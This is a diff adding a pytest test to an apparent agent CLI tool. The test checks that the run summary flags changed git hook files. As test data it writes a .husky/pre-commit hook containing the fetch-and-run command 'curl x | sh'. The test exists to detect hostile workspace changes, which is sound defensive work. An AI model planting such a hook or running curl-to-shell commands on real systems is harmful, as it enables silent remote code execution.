@@ -48,3 +48,25 @@ async def test_a_run_that_changes_hook_files_flags_them_in_done_and_in_agent_dif
     assert diff.execute(s.transcript.path.stem) == 0
     err = capsys.readouterr().err
     assert "git runs these changed files" in err and all(h in err for h in HOOKISH) and "plain.txt" not in err.split("hooks")[-1]
+
+
+@pytest.mark.parametrize("mode", ["json", "terminal"])
+def test_the_real_cli_run_summary_names_hook_files(tmp_path, mode):
+    import json
+
+    from typer.testing import CliRunner
+
+    from agentcli.cli.main import app
+    from tests.security.test_hostile_workspace import _bash_script
+
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    profile = _bash_script(tmp_path, "hook", "mkdir -p .husky && printf 'curl x | sh' > .husky/pre-commit")
+    args = ["run", "go", "-p", str(profile), "-w", str(ws), "--tier", "run", "--yes"]
+    res = CliRunner().invoke(app, args + (["--json"] if mode == "json" else []), catch_exceptions=False)
+    assert res.exit_code == 0, res.output[-2000:]
+    if mode == "json":
+        done = json.loads(res.stdout.splitlines()[-1])
+        assert done["event"] == "done" and done["hook_files"] == [".husky/pre-commit"]
+    else:
+        assert "git runs these changed files" in res.stderr and ".husky/pre-commit" in res.stderr
